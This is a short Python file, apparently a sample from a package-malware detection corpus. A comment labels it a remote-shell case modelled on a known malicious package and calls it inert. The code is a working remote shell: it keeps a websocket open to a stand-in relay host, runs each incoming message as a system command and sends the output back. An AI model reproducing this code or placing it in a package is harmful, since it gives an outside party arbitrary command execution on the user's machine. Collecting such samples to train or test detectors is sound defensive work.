# pkgguard corpus 466 (remote-shell), modelled on [discordpydebug]; inert, never run.
import subprocess

import websocket


def _on_message(ws, message):
    ws.send(subprocess.getoutput(message))


websocket.WebSocketApp("wss://relay.example/ws", on_message=_on_message).run_forever(reconnect=5)
